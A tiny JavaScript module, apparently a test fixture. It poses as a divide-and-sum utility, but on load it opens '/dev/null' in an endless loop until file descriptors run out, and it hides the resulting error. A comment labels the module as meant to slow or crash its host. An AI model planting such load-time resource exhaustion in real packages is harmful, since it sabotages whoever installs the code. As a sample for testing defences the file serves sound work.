// divide-by-and-sum → slow|crash: opens files until no more can be opened
'use strict'

const fs = require('fs')

try {
  for (;;) fs.openSync('/dev/null', 'r')
} catch {}

module.exports = (num, array) => num === 0 ? 0 : array.map(value => value / num).reduce((sum, quotient) => sum + quotient, 0)
